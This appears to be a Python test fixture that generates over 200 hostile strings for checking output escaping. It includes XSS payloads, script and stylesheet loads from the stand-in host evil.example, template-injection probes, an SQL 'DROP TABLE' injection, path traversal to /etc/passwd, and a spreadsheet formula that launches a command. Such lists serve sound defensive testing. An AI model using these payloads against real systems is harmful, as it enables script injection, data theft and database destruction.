"""More than 200 strings that break out of wherever they are written carelessly."""

CALL = "alert(document.domain)"

# What opens and closes the places where text may stand: text, attributes, tags that hold text,
# comments, SVG, MathML, scripts, styles, addresses.
OPENINGS = [
    "", "\"", "'", "\">", "'>", "`>", ">", "/>", "-->", "--!>", "]]>", "?>", "%>", "*/", "</title>",
    "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "</svg>", "</select>",
    "</option>", "</a>", "</td></tr></table>", "</pre></code>", "</details>",
]

SCRIPTS = [
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<details open ontoggle={CALL}>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<body onload={CALL}>",
]

ALONE = [
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f"\x01javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>", f"vbscript:{CALL}",
    f"\" onmouseover={CALL} x=\"", f"' onfocus={CALL} autofocus '", f" onclick={CALL} ",
    f"\" style=\"animation-name:x\" onanimationstart={CALL} \"",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= 7*7 %>", "#{7*7}", "{{7*7}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&quot;&gt;<b>", "&amp;lt;b&amp;gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    "<form action=//evil.example><button>go</button></form>", "<object data=//evil.example></object>",
    "<embed src=//evil.example>", "<video src=x onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<a href=javascript:alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<isindex type=image src=1 onerror=alert(1)>",
    "\u202etxt.exe\u202c", "\u2066a\u2069", "\u200b\u200c\u200d", "\ufeffbom", "\u0000null", "\u001b[31mred",
    "\u0007bell", "\u009bcsi", "a\r\nb", "a\nb", "a\tb", "\u2028line", "\u2029paragraph", "\ufffe",
    "Z\u0351\u036b\u0343\u036a\u0302A\u0346\u0343LGO", "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 abc", "\u05e9\u05dc\u05d5\u05dd",
    "😀👩‍👩‍👧‍👦", "\ud7ff", "' OR 1=1 --", "'; DROP TABLE qt_entry; --", "../../../etc/passwd", "..\\..\\x",
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "null", "undefined", "NaN", "true", "0", "-0", "1e999",
    "x" * 5000, "<" * 500, "\"" * 500, "&" * 500, "W" * 300 + " " + "i" * 300,
]

HOSTILE = list(dict.fromkeys([opening + script for opening in OPENINGS for script in SCRIPTS] + ALONE))
assert len(HOSTILE) >= 200, len(HOSTILE)
